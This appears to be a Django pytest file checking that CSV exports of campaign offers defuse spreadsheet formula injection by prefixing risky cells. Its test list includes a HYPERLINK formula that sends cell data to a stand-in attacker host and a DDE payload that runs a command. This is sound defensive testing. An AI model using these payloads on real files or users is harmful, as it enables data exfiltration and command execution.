"""Issue 8, finding 9: CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from campaigns.models import Campaign
from campaigns.services.build import campaign_build
from crm.csv_safety import csv_cell
from crm.models import Customer, Item
from crm.services import api_key_create

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_prefixed(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain title", "", "a=b", "1-2", -1.5, 0, None])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


@pytest.fixture
def formula_campaign(make_customers, items):
    """An offer list whose item titles and customer ids are formulas (both come from the API or an import)."""
    Item.objects.filter(pk__in=[i.pk for i in items]).update(title=FORMULAS[0])
    customer = make_customers(1)[0]
    Customer.objects.filter(pk=customer.pk).update(external_id="=1+1")
    campaign = Campaign.objects.create(name="offers", channel=Campaign.Channel.OFFER_LIST, n_items=2,
                                       holdout_share=0)
    campaign_build(campaign=campaign)
    return campaign


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_formula(rows: list[dict]) -> None:
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0]["title"] == "'" + FORMULAS[0] and rows[0]["customer_id"] == "'=1+1"


def test_offers_csv_over_the_api(formula_campaign):
    _, raw = api_key_create(name="reader", scopes=["read"])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    response = api.get(f"/api/v1/campaigns/{formula_campaign.pk}/offers?format=csv")
    assert response.status_code == 200
    _assert_no_formula(_rows(response.content.decode()))
    as_json = api.get(f"/api/v1/campaigns/{formula_campaign.pk}/offers").json()
    assert as_json["offers"][0]["title"] == FORMULAS[0]  # JSON is data, not a spreadsheet: unchanged


def test_offers_csv_from_the_command(formula_campaign, tmp_path):
    out = tmp_path / "offers.csv"
    call_command("campaign", "offers", str(formula_campaign.pk), "--format", "csv", "--out", str(out))
    _assert_no_formula(_rows(out.read_text()))
